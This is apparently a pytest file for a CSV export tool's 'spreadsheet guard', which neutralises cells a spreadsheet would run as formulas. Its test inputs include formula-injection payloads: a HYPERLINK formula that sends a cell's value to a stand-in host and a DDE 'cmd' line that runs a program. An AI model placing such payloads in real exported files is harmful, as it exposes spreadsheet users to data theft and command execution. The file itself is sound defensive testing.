"""The spreadsheet guard: no cell that a spreadsheet would run, each taken back exactly, all as it was without it."""

import csv
import io
import json
import random
import re
from pathlib import Path

import pytest

from core.exporting import export_selection
from core.exporting.writing import FORMULA_STARTS, guarded
from core.selection import Selection
from core.selection.recipe import Amount
from core.workspace.loss_table import write_losses
from tests.fakes import ScoredRecord, build_scored_store

ALL = Selection("planets", amount=Amount("ratio", 1.0), collapse_duplicates=False)
TEXTS = (
    *(f"{start}1+1" for start in FORMULA_STARTS),
    *FORMULA_STARTS,
    '=HYPERLINK("http://x.example/?"&A1,"look")',
    "=cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "'=1",
    "''+1",
    "'",
    "'quoted'",
    "plain",
    "",
    " =1",
    "1-1",
    '"=1"',
    "Ünïcode ＝",
    "a\r=b",
    "a;=1+1",
    "a;;=1+1;",
    "a;\t=1",
    "\t=1;+1\n-1",
    ";=1",
    "a;'=1",
    "a;''\"'=1",
    'a;"=1+1;"',
    'a";"=1+1',
    "a\n- one\n- two\n\n@x",
    "a\t＝1;＠b",
    "a; b\tc\n d;1-1",
)


def taken_back(cell: str) -> str:
    """What a guarded cell held."""
    own = cell[1:] if cell.startswith("'") and cell.lstrip("'\"").startswith(FORMULA_STARTS) else cell
    return re.sub(r"""([;\t\r\n])'(["']*[=+\-@＝＋－＠])""", r"\1\2", own)


def seen_by_others(content: str) -> list[str]:
    """The beginnings of all cells, as the most careless of programs that separate by `;`, tab or line break see
    them: quotes hold nothing together, and those at a cell's beginning are dropped."""
    return [cell.lstrip('"') for cell in re.split(r"[;\t\r\n]", content)]


def cells_of(folder: Path, guard: bool, batch_of: int = 1) -> list[dict[str, str]]:
    rows = [
        ScoredRecord(
            "chat", 2.0, 1.0, response=f"{number}", original=json.dumps({"text": text, "n": -number - 1}).encode()
        )
        for number, text in enumerate(TEXTS * batch_of)
    ]
    with build_scored_store(folder / "workspace", rows) as store:
        report = export_selection(store, ALL, folder / "out.csv", spreadsheet_guard=guard)
    assert json.loads(report.manifest_path.read_text())["output"]["spreadsheet_guard"] is guard
    with open(report.path, encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def test_without_the_guard_every_cell_is_the_records_text(tmp_path: Path) -> None:
    assert [row["text"] for row in cells_of(tmp_path, guard=False)] == list(TEXTS)


def test_with_it_no_text_begins_a_formula_and_each_is_taken_back_exactly(tmp_path: Path) -> None:
    found = [row["text"] for row in cells_of(tmp_path, guard=True)]
    assert not any(cell.startswith(FORMULA_STARTS) for cell in found)
    with open(tmp_path / "out.csv", encoding="utf-8", newline="") as file:
        cells = seen_by_others(file.read())
    assert not [cell for cell in cells if cell.startswith(tuple("=+-@＝＋－＠"))]
    assert [taken_back(cell) for cell in found] == list(TEXTS)


@pytest.mark.parametrize("value", [["a;=1+1"], {"a": "x\t=1", "b": -1}, [-1, 2.5e-7, ";-1"], {";=1": ["-"]}, -1.5])
def test_lists_and_objects_are_guarded_within_and_taken_back(tmp_path: Path, value: object) -> None:
    text = json.dumps(value, ensure_ascii=False)
    rows = [ScoredRecord("chat", 2.0, 1.0, original=f'{{"text": "a", "value": {text}}}'.encode())]
    with build_scored_store(tmp_path / "workspace", rows) as store:
        path = export_selection(store, ALL, tmp_path / "out.csv", spreadsheet_guard=True).path
    content = path.read_bytes().decode()
    (row,) = csv.DictReader(io.StringIO(content))
    assert not [cell for cell in seen_by_others(content) if cell.startswith(tuple("=+-@＝＋－＠"))]
    assert taken_back(row["value"]) == text


def test_random_texts_are_guarded_and_taken_back() -> None:
    chance = random.Random(7)
    for _ in range(20_000):
        text = "".join(chance.choices("a;\t\r\n'\"=+-@＝ ", k=chance.randint(0, 9)))
        assert taken_back(guarded(text)) == text
        found = seen_by_others(f'"x","{guarded(text).replace(chr(34), chr(34) * 2)}"\n')
        assert not [cell for cell in found if cell.startswith(tuple("=+-@＝＋－＠"))], text


def test_records_of_texts_alone_are_guarded_alike_by_sql(tmp_path: Path) -> None:
    rows = [
        ScoredRecord("chat", 2.0, 1.0, response=f"{number}", original=json.dumps({"text": text}).encode())
        for number, text in enumerate(TEXTS)
    ]
    with build_scored_store(tmp_path / "workspace", rows) as store:
        path = export_selection(store, ALL, tmp_path / "out.csv", spreadsheet_guard=True).path
    with open(path, encoding="utf-8", newline="") as file:
        assert [row["text"] for row in csv.DictReader(file)] == [guarded(text) for text in TEXTS]


def test_numbers_stay_numbers_under_the_guard(tmp_path: Path) -> None:
    found = [row["n"] for row in cells_of(tmp_path, guard=True)]
    assert found == [str(-number - 1) for number in range(len(TEXTS))]


@pytest.mark.parametrize("name", ["=1+1", "@x", "+y"])
def test_the_names_of_columns_are_guarded_too(tmp_path: Path, name: str) -> None:
    rows = [ScoredRecord("=domain", 2.0, 1.0, original=json.dumps({name: "a"}).encode())]
    with build_scored_store(tmp_path / "workspace", rows) as store:
        report = export_selection(store, ALL, tmp_path / "out.csv", with_scores=True, spreadsheet_guard=True)
    header, line = report.path.read_text(encoding="utf-8").splitlines()
    assert header.startswith(f'"\'{name}"')
    assert '"\'=domain"' in line


@pytest.mark.parametrize("guard", [False, True])
def test_a_table_of_losses_guards_its_domains_too(tmp_path: Path, guard: bool) -> None:
    domains = ["=1+1", "chat", "'@x"]
    rows = [ScoredRecord(domain, 2.0, 1.0, response=domain) for domain in domains]
    with build_scored_store(tmp_path / "workspace", rows) as store:
        assert write_losses(store, "planets", tmp_path / "losses.csv", spreadsheet_guard=guard) == 3
    with open(tmp_path / "losses.csv", encoding="utf-8", newline="") as file:
        found = [row["domain"] for row in csv.DictReader(file)]
    assert found == (["'=1+1", "chat", "''@x"] if guard else domains)
